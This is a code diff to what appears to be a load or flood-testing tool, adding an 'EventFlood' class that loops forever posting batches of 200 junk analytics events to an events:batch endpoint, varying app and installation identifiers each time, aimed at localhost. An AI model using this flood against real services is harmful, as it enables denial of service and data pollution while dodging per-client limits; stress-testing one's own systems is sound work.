@@ -2,6 +2,7 @@
 
 import itertools
 import json
+import time
 
 from attacks import frames
 from attacks.http2 import stream_numbers
@@ -46,6 +47,34 @@ class SignInFlood(Attack):
         head = (
             f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
             f"Content-Length: {len(body)}\r\n\r\n"
+        )
+        return head.encode() + body
+
+
+class EventFlood(Attack):
+    """Batches of events with the public key alone, each of another app and installation, with new names."""
+
+    protocol = "http/1.1"
+    links = 32
+    addresses = 8
+
+    def script(self, number):
+        for attempt in itertools.count():
+            yield self.request(f"{number}x{attempt}")
+            yield ANSWER
+
+    def request(self, tag):
+        now = int(time.time() * 1000)
+        events = [
+            {"name": f"junk{tag}x{n}", "timeMicros": now * 1000, "params": {"p": {"stringValue": f"{tag}{n}" * 8}}}
+            for n in range(200)
+        ]
+        body = json.dumps({
+            "appInstanceId": f"c{tag}", "batchNumber": 1, "sentTimeMillis": now, "events": events,
+        }).encode()
+        head = (
+            f"POST /v1/projects/{self.project}/apps/1:1:ios:{tag}/events:batch HTTP/1.1\r\nHost: localhost\r\n"
+            f"x-goog-api-key: {self.project}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
         )
         return head.encode() + body
 
